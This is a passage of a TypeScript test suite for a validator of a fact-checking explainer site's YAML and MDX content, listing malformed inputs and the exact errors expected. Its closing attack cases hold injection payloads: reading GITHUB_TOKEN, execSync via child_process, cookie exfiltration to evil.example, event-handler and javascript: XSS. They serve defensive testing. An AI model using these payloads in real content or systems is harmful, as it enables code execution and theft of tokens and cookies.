    ],
  },
  {
    name: 'an earlier version deleted',
    kind: 'malformed',
    apply: (copy) => {
      MOVED(copy);
      copy.unlink('versions/2026-11-01.txt');
    },
    expected: [
      `explainer.yaml:16:16  the version of 2026-11-01, which a revision replaced, is not kept: versions/2026-11-01.txt is missing  (restore versions/2026-11-01.txt exactly as it was received: every earlier version stays, byte for byte)`,
    ],
  },
  {
    name: 'an earlier version edited',
    kind: 'malformed',
    apply: (copy) => {
      MOVED(copy);
      copy.edit('versions/2026-11-01.txt', 'Mayor Ana Lopez', 'Mayor Ana López');
    },
    expected: [
      `versions/2026-11-01.txt:1:1  this is not the version of 2026-11-01 as received: its SHA-256 is 743255ceff3d…, explainer.yaml records 2693f88f2257…  (restore the file exactly as it was received: an earlier version is the record and is never edited)`,
    ],
  },
  {
    name: 'a file in versions/ that no revision lists',
    kind: 'malformed',
    apply: (copy) => {
      MOVED(copy);
      copy.write('versions/2026-10-01.txt', 'An older draft.\n');
    },
    expected: [
      `versions/2026-10-01.txt:1:1  versions/2026-10-01.txt is not a version explainer.yaml lists  (remove it; npm run revise keeps each earlier version and lists it in article.revisions)`,
    ],
  },
  {
    name: 'a claim pinned to the version that is current',
    kind: 'malformed',
    apply: edit(
      CLAIMS,
      'are not named.\n  reviewed: 2026-11-01\n',
      'are not named.\n  reviewed: 2026-11-01\n  version: 2026-11-01\n',
    ),
    expected: [
      `claims/bridge.yaml:24:12  version "2026-11-01" is the current version of the article, not an earlier one  (remove version: a claim on the current version needs none; version: pins a claim to an earlier version)`,
    ],
  },
  {
    name: 'a claim pinned to a version the explainer does not have',
    kind: 'malformed',
    apply: (copy) => {
      reviseAndPin(copy);
      copy.edit(CLAIMS, 'version: 2026-11-01', 'version: 2026-11-02');
    },
    expected: [
      `claims/bridge.yaml:24:12  version "2026-11-02" is not a version of the article  (did you mean "2026-11-01"? pin the claim to the earlier version it was made on (2026-11-01), or remove version:)`,
    ],
  },
  {
    name: 'a pinned claim whose quote is not in the version it is pinned to',
    kind: 'malformed',
    apply: (copy) => {
      reviseAndPin(copy);
      copy.edit(
        CLAIMS,
        'quote: Critics called the project a waste of money.',
        'quote: Critics called the project a waste of time.',
      );
    },
    expected: [
      `claims/bridge.yaml:14:10  quote is not in the version of 2026-11-01 of the article  (copy the words exactly: you wrote \`time.\` where the article has \`money.\`; the closest sentence is s3: "Critics called the project a waste of money.")`,
    ],
  },
  {
    name: "a quote updated to a revision's words, not reviewed again",
    kind: 'malformed',
    apply: (copy) => {
      reviseAndPin(copy);
      revise(copy, REVISED.replace('3 March', '4 March'));
      copy.edit(
        CLAIMS,
        'quote: The Riverside council approved a new footbridge on 3 March.',
        'quote: The Riverside council approved a new footbridge on 4 March.',
      );
      copy.edit(
        CLAIMS,
        "  rationale: The council's minutes record the vote.\n",
        "  rationale: The council's minutes record the vote.\n  history:\n    - date: 2026-11-21\n      updated: quote\n      reason: The revised article dates the vote to 4 March.\n",
      );
    },
    expected: [
      `claims/bridge.yaml:15:13  the quote was updated after the revision of 2026-11-20-2, but the claim was last reviewed on 2026-11-01, before it  (review the claim against the new words and set reviewed to the day you did (on or after 2026-11-20))`,
    ],
  },
  {
    name: 'unverified when the public record disputes it',
    kind: 'malformed',
    apply: edit(
      CLAIMS,
      '  status: opinion\n  citations:\n    - source: unnamed-critics\n      stance: supports',
      '  status: unverified\n  citations:\n    - source: unnamed-critics\n      stance: supports\n    - source: council-minutes\n      stance: disputes\n      note: The minutes record that the council “approved the construction of a new footbridge”.',
    ),
    expected: [
      `${CLAIMS}:16:11  claim "bridge-is-waste" is "unverified", but that needs a supporting source of any grade (who makes the claim), and no source graded B or better disputing it; it is disputed by council-minutes (A), so it is contradicted  (change the status to "contradicted", the strongest these citations allow, or cite evidence that meets the rule (see /method/))`,
    ],
  },
  {
    name: 'a claim nobody makes (context citations only)',
    kind: 'malformed',
    apply: edit(
      CLAIMS,
      '    - source: unnamed-critics\n      stance: supports\n    - source: article-text\n      stance: supports',
      '    - source: unnamed-critics\n      stance: context\n    - source: article-text\n      stance: context',
    ),
    expected: [
      `${CLAIMS}:16:11  claim "bridge-is-waste" is "opinion", but that needs at least one citation that supports it: who makes the claim; nothing supports it  (cite the source that makes the claim, with stance: supports (see /method/))`,
    ],
  },
  {
    name: 'a history that ends in another status',
    kind: 'malformed',
    apply: edit(
      CLAIMS,
      "  rationale: The council's minutes record the vote.",
      "  rationale: The council's minutes record the vote.\n  history:\n    - date: 2026-10-01\n      from: reported\n      to: disputed\n      reason: A denial was published.",
    ),
    expected: [
      `${CLAIMS}:14:11  the last history entry changes the status to "disputed", but the claim's status is "established"  (make the latest history entry end in the current status)`,
    ],
  },
  {
    name: 'a note about an entry that is not there',
    kind: 'malformed',
    apply: edit(
      CLAIMS,
      "  rationale: The council's minutes record the vote.",
      "  rationale: The council's minutes record the vote.\n  history:\n    - date: 2026-10-01\n      from: reported\n      to: established\n      reason: The minutes were published.\n    - date: 2026-11-01\n      note: They were published on 2 October.\n      about: 2026-10-02",
    ),
    expected: [
      `${CLAIMS}:18:14  this note is about the entry of 2026-10-02, but no entry before it has that date  (give about the date of the entry it amends: 2026-10-01)`,
    ],
  },
  {
    name: 'a history entry that mixes two kinds',
    kind: 'malformed',
    apply: edit(
      CLAIMS,
      "  rationale: The council's minutes record the vote.",
      "  rationale: The council's minutes record the vote.\n  history:\n    - date: 2026-10-01\n      from: reported\n      to: established\n      reason: The minutes were published.\n      note: And checked.",
    ),
    expected: [
      `${CLAIMS}:16:13  history[0].note is not one kind of history entry  (write a change as date, from, to and reason; a change of address (sources) as date, url (from and to) and reason; an update (claims) as date, updated (quote or claim) and reason; a passage removed (sources) as date, removed (its text as kept) and reason; a note on an earlier entry as date, note and about (that entry's date))`,
    ],
  },
  {
    name: 'an update entry without its reason',
    kind: 'malformed',
    apply: edit(
      CLAIMS,
      "  rationale: The council's minutes record the vote.",
      "  rationale: The council's minutes record the vote.\n  history:\n    - date: 2026-10-01\n      updated: quote",
    ),
    expected: [`${CLAIMS}:12:7  history[0].reason is required  (add history[0].reason: text)`],
  },
  {
    name: 'an address history that ends in another address',
    kind: 'malformed',
    apply: edit(
      SOURCES,
      "  gradeReason: The council's own record of its vote.",
      "  gradeReason: The council's own record of its vote.\n  history:\n    - date: 2026-10-01\n      url:\n        from: null\n        to: https://example.org/minutes\n      reason: The minutes were put online.",
    ),
    expected: [
      `${SOURCES}:12:13  the last address entry changes the address to "https://example.org/minutes", but the source's url is absent  (make the latest address entry end in the current url (null when there is none))`,
    ],
  },

  // --- Sources ---------------------------------------------------------------------------------
  {
    name: 'a source without a grade',
    kind: 'malformed',
    apply: edit(SOURCES, '  grade: A\n', ''),
    expected: [`${SOURCES}:1:3  grade is required  (add grade: one of A, B, C, D, E, F)`],
  },
  {
    name: 'a grade off the scale',
    kind: 'malformed',
    apply: edit(SOURCES, '  grade: A', '  grade: G'),
    expected: [
      `${SOURCES}:6:10  grade "G" is not one of A, B, C, D, E, F  (did you mean "A"? use one of A, B, C, D, E, F; the method page explains each)`,
    ],
  },
  {
    name: 'a misspelt kind',
    kind: 'malformed',
    apply: edit(SOURCES, '  kind: official-record', '  kind: offical-record'),
    expected: [
      `${SOURCES}:4:9  kind "offical-record" is not one of official-record, statement, news-report, poll, anonymous-sources, party-claim, research, unattributed, article  (did you mean "official-record"? use one of official-record, statement, news-report, poll, anonymous-sources, party-claim, research, unattributed, article; the method page explains each)`,
    ],
  },
  {
    name: 'a source date in words',
    kind: 'malformed',
    apply: edit(SOURCES, '  date: 2026-03-03', '  date: March 2026'),
    expected: [
      `${SOURCES}:5:9  date "March 2026" is not a date written YYYY-MM-DD, YYYY-MM or YYYY  (write the date in ISO form (2026-01-23, 2026-01 or 2026), or "unknown" when nothing gives it)`,
    ],
  },
  {
    name: 'a url with an ftp: scheme',
    kind: 'malformed',
    apply: edit(SOURCES, '  grade: A', '  url: ftp://council.example/minutes.pdf\n  grade: A'),
    expected: [
      `${SOURCES}:6:8  url "ftp://council.example/minutes.pdf" is not a web address starting with https:// or http://  (give the full https:// address, or remove the url and cite by name, publisher and date)`,
    ],
  },
  {
    name: 'a url that is not an address',
    kind: 'malformed',
    apply: edit(SOURCES, '  grade: A', '  url: council minutes page\n  grade: A'),
    expected: [
      `${SOURCES}:6:8  url "council minutes page" is not a web address starting with https:// or http://  (give the full https:// address, or remove the url and cite by name, publisher and date)`,
    ],
  },
  {
    name: 'derivedFrom a source that does not exist',
    kind: 'malformed',
    apply: edit(SOURCES, '  derivedFrom: article-text', '  derivedFrom: council-minute'),
    expected: [
      `${SOURCES}:20:16  derivedFrom "council-minute" is not a source  (did you mean "council-minutes"? name the id of the source this one relays)`,
    ],
  },
  {
    // Red team 2026-12-03, F13 (y09): the relayed source's own mistake is the one to report;
    // "is not a source" for every source that relays it was a false follow-on.
    name: 'a typo in a source that another relays',
    kind: 'malformed',
    apply: (copy) => {
      copy.edit(SOURCES, '  grade: A', '  grade: AA');
      copy.edit(SOURCES, '  derivedFrom: article-text', '  derivedFrom: council-minutes');
    },
    expected: [
      `${SOURCES}:6:10  grade "AA" is not one of A, B, C, D, E, F  (did you mean "A"? use one of A, B, C, D, E, F; the method page explains each)`,
    ],
  },
  {
    name: 'two sources relaying each other',
    kind: 'malformed',
    apply: (copy) => {
      copy.edit(SOURCES, '  grade: A', '  grade: A\n  derivedFrom: unnamed-critics');
      copy.edit(SOURCES, '  derivedFrom: article-text', '  derivedFrom: council-minutes');
    },
    expected: [
      `${SOURCES}:7:16  derivedFrom goes round in a circle: council-minutes → unnamed-critics → council-minutes  (a source can only relay an earlier one; remove one derivedFrom)`,
    ],
  },
  {
    name: 'two sources with the same id',
    kind: 'malformed',
    apply: edit(SOURCES, '- id: unnamed-critics', '- id: council-minutes'),
    expected: [
      `${CLAIMS}:18:15  source "unnamed-critics" does not exist  (cite an id from sources.yaml, or add the source there)`,
      `${SOURCES}:13:7  source id "council-minutes" is already used at SOURCES_FILE:1  (give one of them another id)`,
    ],
  },
  {
    name: 'a source nothing cites',
    kind: 'malformed',
    apply: (copy) =>
      copy.write(
        SOURCES,
        `${copy.read(SOURCES)}- id: council-press-release\n  title: Press release\n  publisher: Riverside council\n  kind: statement\n  date: 2026-03-04\n  grade: B\n  gradeReason: The council's words, cited by name.\n`,
      ),
    expected: [
      `${SOURCES}:28:7  source "council-press-release" is cited by nothing  (cite it from a claim (or from the glossary or timeline), or remove it from sources.yaml)`,
    ],
  },
  {
    name: 'a source registry written as a mapping, not a list',
    kind: 'malformed',
    apply: (copy) => copy.write(SOURCES, 'council-minutes:\n  title: Minutes\n'),
    expected: [
      `${SOURCES}:1:1  expected a list of sources (each item starting with "- ")  (write the file as a YAML list: "- id: …")`,
    ],
  },

  // --- What we read: sources' passages, and the notes that quote them (issue 21) ------------
  {
    name: 'a note quoting words not in the passage',
    kind: 'malformed',
    apply: edit(CLAIMS, '“approved the construction of', '“approved the building of'),
    expected: [
      `${CLAIMS}:9:13  "approved the building of a new footbridge" is not in any passage kept from source "council-minutes"  (copy the words exactly from a passage of its read: you wrote \`building\` where the passage has \`construction\`; or keep, in read:, the passage they come from)`,
    ],
  },
  {
    name: 'a supporting citation with no note',
    kind: 'malformed',
    apply: edit(CLAIMS, `${MINUTES_NOTE}\n`, ''),
    expected: [
      `${CLAIMS}:7:15  this citation supports the claim, but its note quotes no words of source "council-minutes"  (write in the note, in quotation marks, at least three words of a passage kept from "council-minutes": what in it supports the claim)`,
    ],
  },
  {
    name: 'a supporting citation whose note quotes two words',
    kind: 'malformed',
    apply: edit(
      CLAIMS,
      MINUTES_NOTE,
      '      note: The minutes say the council “approved the” footbridge.',
    ),
    expected: [
      `${CLAIMS}:9:13  this citation supports the claim, but its note quotes no words of source "council-minutes"  (write in the note, in quotation marks, at least three words of a passage kept from "council-minutes": what in it supports the claim)`,
    ],
  },
  {
    name: 'a summary quoting words not in the passage',
    kind: 'malformed',
    apply: edit(
      SOURCES,
      "  gradeReason: The council's own record of its vote.\n",
      "  gradeReason: The council's own record of its vote.\n  said: That the council “approved a new footbridge”.\n",
    ),
    expected: [
      `${SOURCES}:8:9  "approved a new footbridge" is not in any passage kept from source "council-minutes"  (copy the words exactly from a passage of its read: you left out \`the construction of\`; or keep, in read:, the passage they come from)`,
    ],
  },
  {
    name: 'grade A read only via another outlet',
    kind: 'malformed',
    apply: edit(
      SOURCES,
      '      on: 2026-03-04\n',
      '      on: 2026-03-04\n      via: The Riverside Gazette\n',
    ),
    expected: [
      `${SOURCES}:6:10  source "council-minutes" is grade A, the primary record, but it was read only via The Riverside Gazette  (read the record itself at its publisher, and add that reading without via; or grade it as the report it was read in (B for named sourcing, C for anonymous))`,
    ],
  },
  {
    name: 'grade A whose relied-on words were read only in a report of it',
    kind: 'malformed',
    apply: edit(
      SOURCES,
      '        - text: The council approved the construction of a new footbridge over the Riverside canal.\n',
      '        - text: The council met on 3 March.\n    - at: https://gazette.example/footbridge\n      on: 2026-03-05\n      via: The Riverside Gazette\n      passages:\n        - text: The council approved the construction of a new footbridge over the Riverside canal.\n',
    ),
    expected: [
      `${SOURCES}:6:10  source "council-minutes" is grade A, the primary record, but the words relied on (“approved the construction of a new footbridge”) were read only via The Riverside Gazette  (read the record itself at its publisher, and add that reading without via; or grade it as the report it was read in (B for named sourcing, C for anonymous))`,
    ],
  },
  {
    name: 'grade A with no read entry',
    kind: 'malformed',
    apply: edit(SOURCES, READING, ''),
    expected: [
      `${CLAIMS}:7:15  source "council-minutes" supports the claim, but no one read it: it has no read entry  (read it, and keep in read: where, when and the passages it is cited for; or cite it as context)`,
      `${SOURCES}:6:10  source "council-minutes" is grade A, the primary record, but it was not read at all (it has no read entry)  (read the record itself at its publisher, and add that reading without via; or grade it as the report it was read in (B for named sourcing, C for anonymous))`,
    ],
  },
  {
    name: 'a source with a url and no passage',
    kind: 'malformed',
    apply: (copy) => {
      copy.write(
        SOURCES,
        `${copy.read(SOURCES)}- id: council-website\n  title: The council's page on the footbridge\n  publisher: Riverside council\n  kind: statement\n  date: 2026-03\n  url: https://riverside.example/footbridge\n  grade: B\n  gradeReason: The council's own page.\n`,
      );
      copy.edit(
        CLAIMS,
        `${MINUTES_NOTE}\n`,
        `${MINUTES_NOTE}\n    - source: council-website\n      stance: context\n`,
      );
    },
    expected: [
      `${SOURCES}:33:8  source "council-website" links to a document, but keeps nothing read there: it has no read entry  (keep in read: where and when it was read, and the passages its citations rely on; or remove the url and cite it by name, publisher and date)`,
    ],
  },
  {
    name: 'a reading that says neither where nor what copy',
    kind: 'malformed',
    apply: edit(
      SOURCES,
      "    - copy: The council's printed minutes, as filed at the town hall\n      on:",
      '    - on:',
    ),
    expected: [
      `${SOURCES}:9:7  read[0] says neither where the source was read (at) nor what copy was read (copy)  (give at: the address of the page read, or copy: what copy it was (print, a PDF))`,
    ],
  },
  {
    name: 'a passage longer than the limit',
    kind: 'malformed',
    apply: edit(
      SOURCES,
      'over the Riverside canal.',
      `over the Riverside canal.${' And more.'.repeat(50)}`,
    ),
    expected: [
      `${SOURCES}:12:17  read[0].passages[0].text is 583 characters; the limit is 500  (keep in read[0].passages[0].text only the words the citations rely on: a passage is a short quotation, not the document)`,
    ],
  },
  {
    name: 'more passages than the limit',
    kind: 'malformed',
    apply: edit(
      SOURCES,
      '        - text: The council approved',
      `${Array.from({ length: 12 }, (_, i) => `        - text: Item ${i + 1} of the agenda.\n`).join('')}        - text: The council approved`,
    ),
    expected: [
      `${SOURCES}:9:5  13 passages are kept from this source; the limit is 12  (keep the passages the citations and the summary quote, and no more)`,
    ],
  },
  {
    name: 'two supports quoting the same passage, counted once',
    kind: 'malformed',
    apply: (copy) => {
      const report = (id: string, outlet: string) =>
        `- id: ${id}\n  title: ${outlet} on the vote\n  publisher: ${outlet}\n  kind: news-report\n  date: 2026-03-04\n  grade: B\n  gradeReason: Names the council as its source.\n  read:\n    - copy: The printed paper\n      on: 2026-03-04\n      passages:\n        - text: The council approved a new footbridge on Tuesday, its minutes show.\n`;
      copy.write(
        SOURCES,
        `${copy.read(SOURCES)}${report('gazette-report', 'The Riverside Gazette')}${report('herald-report', 'The Riverside Herald')}`,
      );
      copy.edit(
        CLAIMS,
        `      stance: supports\n${MINUTES_NOTE}\n`,
        '      stance: context\n    - source: gazette-report\n      stance: supports\n      note: The Gazette says the council “approved a new footbridge”.\n    - source: herald-report\n      stance: supports\n      note: The Herald says the council “approved a new footbridge on Tuesday”.\n',
      );
    },
    expected: [
      `${CLAIMS}:5:11  claim "council-approved-bridge" is "established", but that needs a supporting source graded A, or two independent supporting sources graded B or better, and no source graded C or better disputing it; its B-or-better sources (gazette-report (B), herald-report (B)) quote the same words (“approved a new footbridge”), so they count once: two reports of one text are one  (change the status to "reported", the strongest these citations allow, or cite evidence that meets the rule (see /method/))`,
    ],
  },

  // --- The explainer and its article -------------------------------------------------------------
  {
    name: 'an explainer without a title',
    kind: 'malformed',
    apply: edit(EXPLAINER, 'title: Riverside footbridge explained\n', ''),
    expected: [`${EXPLAINER}:2:1  title is required  (add title: text)`],
  },
  {
    name: 'a received date in the wrong form',
    kind: 'malformed',
    apply: edit(EXPLAINER, '  received: 2026-11-01', '  received: 1 November 2026'),
    expected: [
      `${EXPLAINER}:11:13  article.received "1 November 2026" is not a date written YYYY-MM-DD  (write article.received as a real day in ISO form, e.g. 2026-01-23)`,
    ],
  },
  {
    name: 'a piece of the article that starts with words it does not contain',
    kind: 'malformed',
    apply: edit(
      EXPLAINER,
      '  provenance:',
      '  parts:\n    - startsWith: The town council\n      label: The report\n  provenance:',
    ),
    expected: [
      `${EXPLAINER}:13:19  no sentence of the article starts with "The town council"  (copy the opening words of the sentence that starts the piece exactly)`,
    ],
  },
  {
    name: 'a missing article',
    kind: 'malformed',
    apply: (copy) => rmSync(path.join(copy.dir, 'article.txt')),
    expected: [
      `article.txt:1:1  article.txt is missing  (create it; see CONTRIBUTING.md for its format)`,
    ],
  },

  {
    name: 'a folder where a claims file should be',
    kind: 'malformed',
    apply: (copy) => mkdirSync(path.join(copy.dir, 'claims/more.yaml')),
    expected: [
      `claims/more.yaml:1:1  the folder "claims/more.yaml" has no place in an explainer's content  (content holds explainer.yaml, article.txt, sources.yaml, glossary.yaml, timeline.yaml, map.yaml, versions/*.txt, claims/*.yaml and topics/*.mdx only; move anything else out of it)`,
    ],
  },
  {
    name: 'an explainer written as a list',
    kind: 'malformed',
    apply: (copy) =>
      copy.write(
        EXPLAINER,
        `- ${
          copy
            .read(EXPLAINER)
            .split('\n')
            .filter((line) => line.startsWith('title:'))[0]
        }\n`,
      ),
    expected: [
      `${EXPLAINER}:1:1  expected a mapping of fields ("field: value")  (write the file as "field: value" lines; see CONTRIBUTING.md)`,
    ],
  },

  // --- Topics ------------------------------------------------------------------------------------
  {
    name: 'a topic without frontmatter',
    kind: 'malformed',
    apply: (copy) => copy.write(TOPIC, copy.read(TOPIC).replace(/^---[\s\S]*?---\n/, '')),
    expected: [
      `${TOPIC}:1:1  the topic has no frontmatter  (start the file with "---", the fields title, summary, order and reviewed, then "---")`,
    ],
  },
  {
    name: 'an order written in words',
    kind: 'malformed',
    apply: edit(TOPIC, 'order: 1', 'order: first'),
    expected: [
      `${TOPIC}:4:8  order should be a whole number, not the text "first"  (write order as a whole number)`,
    ],
  },
  {
    name: 'a topic without a summary',
    kind: 'malformed',
    apply: edit(TOPIC, 'summary: What the council decided, and what its critics say.\n', ''),
    expected: [`${TOPIC}:2:1  summary is required  (add summary: text)`],
  },
  {
    name: 'a topic file name with spaces and capitals',
    kind: 'malformed',
    apply: (copy) => {
      copy.write('topics/Bridge Page.mdx', copy.read(TOPIC));
      copy.write(
        TOPIC,
        copy
          .read(TOPIC)
          .replace(/<Claim id="[^"]+"\/>/g, '')
          .replace('<StatusBox/>', '<StatusBox/>'),
      );
    },
    expected: [
      `${CLAIMS}:1:7  claim "council-approved-bridge" is not placed on any page  (add <Claim id="council-approved-bridge"/> to topics/bridge.mdx)`,
      `${CLAIMS}:12:7  claim "bridge-is-waste" is not placed on any page  (add <Claim id="bridge-is-waste"/> to topics/bridge.mdx)`,
      `topics/Bridge Page.mdx:1:1  topic file name "Bridge Page" is not a valid id  (rename it to "bridge-page": lowercase words joined by hyphens, directly in topics/)`,
    ],
  },
  {
    name: 'a card placed on another topic’s page',
    kind: 'malformed',
    apply: (copy) => {
      copy.edit(TOPIC, '<Claim id="bridge-is-waste"/>', '');
      copy.write(
        'topics/costs.mdx',
        '---\ntitle: Costs\nsummary: Who pays.\norder: 2\nreviewed: 2026-11-01\n---\n\n<StatusBox/>\n\n<Claim id="bridge-is-waste"/>\n',
      );
    },
    expected: [
      `topics/costs.mdx:10:1  claim "bridge-is-waste" belongs to topic "bridge" but is placed on "costs"  (move <Claim id="bridge-is-waste"/> to topics/bridge.mdx and link to it here with <ClaimRef id="bridge-is-waste"/>, or change the claim's topic to "costs")`,
    ],
  },
  {
    name: 'a card for a claim that does not exist',
    kind: 'malformed',
    apply: appendToTopic('<Claim id="bridge-is-wasted"/>'),
    expected: [
      `${TOPIC}:20:1  claim "bridge-is-wasted" does not exist  (did you mean "bridge-is-waste"? use an id from claims/*.yaml, or add the claim there)`,
    ],
  },
  {
    // Red team, session 3: the "not placed" line is the right advice here, so it is not hidden
    // as following from the typo (the suggestion belongs to another topic).
    name: 'a card typo on one topic’s page for a claim of another topic, left off its own page',
    kind: 'malformed',
    apply: (copy) => {
      copy.edit(TOPIC, '<Claim id="bridge-is-waste"/>', '');
      copy.write(
        'topics/costs.mdx',
        '---\ntitle: Costs\nsummary: Who pays.\norder: 2\nreviewed: 2026-11-01\n---\n\n<StatusBox/>\n\n<Claim id="bridge-is-wast"/>\n',
      );
    },
    expected: [
      `${CLAIMS}:12:7  claim "bridge-is-waste" is not placed on any page  (add <Claim id="bridge-is-waste"/> to topics/bridge.mdx)`,
      `topics/costs.mdx:10:1  claim "bridge-is-wast" does not exist  (did you mean "bridge-is-waste"? use an id from claims/*.yaml, or add the claim there)`,
    ],
  },
  {
    // Red team, session 3: while a claims file cannot be read, the typo is not shown, so the
    // claim it leaves unplaced must not be hidden as following from it.
    name: 'a card typo while another claims file has a syntax error',
    kind: 'malformed',
    apply: (copy) => {
      copy.edit(TOPIC, '<Claim id="bridge-is-waste"/>', '<Claim id="bridge-is-wast"/>');
      copy.write('claims/tunnel.yaml', '- id: tunnel-plan\n  topic: bridge\n status: opinion\n');
    },
    expected: [
      `${CLAIMS}:12:7  claim "bridge-is-waste" is not placed on any page  (add <Claim id="bridge-is-waste"/> to topics/bridge.mdx)`,
      `claims/tunnel.yaml:3:1  YAML syntax error: this line is indented like a list item but does not start with "- "  (line it up with the fields of its entry, or start a new list item with "- ")`,
    ],
  },
  {
    name: 'the same card placed twice',
    kind: 'malformed',
    apply: appendToTopic('<Claim id="bridge-is-waste"/>'),
    expected: [
      `${TOPIC}:20:1  claim "bridge-is-waste" is already placed at TOPIC_FILE:18  (place each claim once; elsewhere, link to it with <ClaimRef id="bridge-is-waste"/>)`,
    ],
  },
  {
    name: 'a claim left off its page',
    kind: 'malformed',
    apply: edit(TOPIC, '<Claim id="bridge-is-waste"/>', ''),
    expected: [
      `${CLAIMS}:12:7  claim "bridge-is-waste" is not placed on any page  (add <Claim id="bridge-is-waste"/> to topics/bridge.mdx)`,
    ],
  },
  {
    name: 'a topic without its box',
    kind: 'malformed',
    apply: edit(TOPIC, '<StatusBox/>', ''),
    expected: [
      `${TOPIC}:1:1  topic "bridge" has no <StatusBox/>  (add <StatusBox/> after the introduction; every topic shows what is established and what is not)`,
    ],
  },
  {
    name: 'a quotation of a sentence that does not exist',
    kind: 'malformed',
    apply: edit(TOPIC, '<Sentence id="s3"/>', '<Sentence id="s4"/>'),
    expected: [
      `${TOPIC}:16:1  sentence "s4" does not exist; the article has sentences s1 to s3  (find the sentence id on the annotated article page (/article/))`,
    ],
  },
  {
    name: 'a badge for a source that does not exist',
    kind: 'malformed',
    apply: edit(TOPIC, '<Source id="council-minutes"/>', '<Source id="council-minutez"/>'),
    expected: [
      `${TOPIC}:8:36  source "council-minutez" does not exist  (did you mean "council-minutes"? cite an id from sources.yaml, or add the source there)`,
    ],
  },
  {
    name: 'a card without an id',
    kind: 'malformed',
    apply: appendToTopic('<Claim/>'),
    expected: [
      `${TOPIC}:20:1  <Claim> needs the attribute id  (write it as <Claim id="claim-id"/>)`,
    ],
  },
  {
    name: 'an unclosed tag',
    kind: 'malformed',
    apply: appendToTopic('<strong>bold text'),
    expected: [
      `${TOPIC}:20:1  MDX syntax error: Expected a closing tag for \`<strong>\` (20:1-20:9) before the end of \`paragraph\`  (check for an unclosed tag or a stray "<" or "{"; write "&lt;" for a literal "<")`,
    ],
  },
  {
    name: 'a line indented one space too far',
    kind: 'malformed',
    apply: edit(
      CLAIMS,
      '  topic: bridge\n  quote: The Riverside',
      '  topic: bridge\n   quote: The Riverside',
    ),
    expected: [
      `${CLAIMS}:3:4  YAML syntax error: this line is indented further than the field above it  (indent it exactly as far as the other fields of its entry)`,
    ],
  },
  {
    name: 'a key written twice',
    kind: 'malformed',
    apply: edit(CLAIMS, '  status: established', '  status: established\n  status: reported'),
    expected: [
      `${CLAIMS}:6:3  YAML syntax error: this field is written twice in the same entry  (keep one of them)`,
    ],
  },
  {
    name: 'a glossary term citing a source that does not exist',
    kind: 'malformed',
    apply: (copy) =>
      copy.write(
        'glossary.yaml',
        '- id: footbridge\n  term: footbridge\n  definition: A bridge for people on foot.\n  source: dictionary\n',
      ),
    expected: [
      `glossary.yaml:4:11  source "dictionary" does not exist  (cite an id from sources.yaml, or add the source there)`,
    ],
  },
  {
    name: 'a timeline event for a claim that does not exist',
    kind: 'malformed',
    apply: (copy) =>
      copy.write(
        'timeline.yaml',
        '- id: vote\n  date: 2026-03-03\n  event: The council votes.\n  claim: council-approved\n',
      ),
    expected: [
      `timeline.yaml:4:10  claim "council-approved" does not exist  (use an id from claims/*.yaml, or add the claim there)`,
    ],
  },

  // --- Attacks: MDX that would run code -------------------------------------------------------
  {
    name: 'an import of a Node module',
    kind: 'attack',
    apply: appendToTopic("import fs from 'node:fs'"),
    expected: [
      `${TOPIC}:20:1  import statements are not allowed in content  (remove it; the components Claim, ClaimRef, Source, Sentence and StatusBox are available without importing)`,
    ],
  },
  {
    name: 'an export that runs at build time',
    kind: 'attack',
    apply: appendToTopic('export const secret = process.env.GITHUB_TOKEN'),
    expected: [
      `${TOPIC}:20:1  export statements are not allowed in content  (remove it; the components Claim, ClaimRef, Source, Sentence and StatusBox are available without importing)`,
    ],
  },
  {
    name: 'a block expression reading the environment',
    kind: 'attack',
    apply: appendToTopic('{process.env.GITHUB_TOKEN}'),
    expected: [
      `${TOPIC}:20:1  JavaScript expressions in braces {…} are not allowed in content  (write plain text; to show a literal brace, write \\{)`,
    ],
  },
  {
    name: 'an inline expression in prose',
    kind: 'attack',
    apply: appendToTopic('The answer is {globalThis.fetch("https://evil.example")}.'),
    expected: [
      `${TOPIC}:20:15  JavaScript expressions in braces {…} are not allowed in content  (write plain text; to show a literal brace, write \\{)`,
    ],
  },
  {
    name: 'an attribute written as an expression',
    kind: 'attack',
    apply: appendToTopic('<Claim id={require("child_process").execSync("id").toString()}/>'),
    expected: [
      `${TOPIC}:20:1  <Claim> has an attribute written as an expression  (write attributes as plain strings: name="value")`,
      `${TOPIC}:20:1  <Claim> needs the attribute id  (write it as <Claim id="claim-id"/>)`,
    ],
  },
  {
    name: 'a spread attribute',
    kind: 'attack',
    apply: appendToTopic('<Claim {...globalThis}/>'),
    expected: [
      `${TOPIC}:20:1  <Claim> has an attribute written as an expression  (write attributes as plain strings: name="value")`,
      `${TOPIC}:20:1  <Claim> needs the attribute id  (write it as <Claim id="claim-id"/>)`,
    ],
  },
  ...(
    ['script', 'style', 'iframe', 'object', 'embed', 'form', 'base', 'meta', 'link'] as const
  ).map((element): BadInput => ({
    name: `a <${element}> element`,
    kind: 'attack',
    apply: appendToTopic(`<${element} />`),
    expected: [
      `${TOPIC}:20:1  <${element}> is never allowed in content  (remove it; content cannot add scripts, styles, frames, forms or page metadata)`,
    ],
  })),
  {
    name: 'an event handler on an allowed component',
    kind: 'attack',
    apply: appendToTopic(
      '<Claim id="bridge-is-waste" onClick="fetch(`https://evil.example/?c=${document.cookie}`)"/>',
    ),
    expected: [
      `${TOPIC}:20:1  <Claim> has an event-handler attribute onClick  (remove it; content cannot run scripts)`,
    ],
  },
  {
    name: 'an event handler on an allowed element, in lower case',
    kind: 'attack',
    apply: appendToTopic('<details onmouseover="alert(1)">x</details>'),
    expected: [
      `${TOPIC}:20:1  <details> has an event-handler attribute onmouseover  (remove it; content cannot run scripts)`,
    ],
  },
  {
    name: 'an image with an error handler',
    kind: 'attack',
    apply: appendToTopic('<img src="x" onerror="alert(1)"/>'),
    expected: [
      `${TOPIC}:20:1  images are not allowed on topic pages  (say in words what the image shows, and link to where it is published: [the chart](https://…))`,
    ],
  },
  {
    name: 'a style attribute that loads a tracker',
    kind: 'attack',
    apply: appendToTopic('<span style="background:url(https://tracker.example/p.gif)">x</span>'),
    expected: [
      `${TOPIC}:20:1  <span> does not take the attribute "style"  (allowed attributes are lang)`,
    ],
  },
  {
    name: 'a javascript: link',
    kind: 'attack',
    apply: appendToTopic('[Read more](javascript:alert(document.cookie))'),
    expected: [
      `${TOPIC}:20:1  link to "javascript:alert(document.cookie)" uses a scheme that can run code or hide content  (link only to https://, http://, mailto: or a path on this site)`,
    ],
  },
  {
    name: 'a javascript: link in mixed case',
    kind: 'attack',
    apply: appendToTopic('[Read more](JaVaScRiPt:alert(1))'),
    expected: [
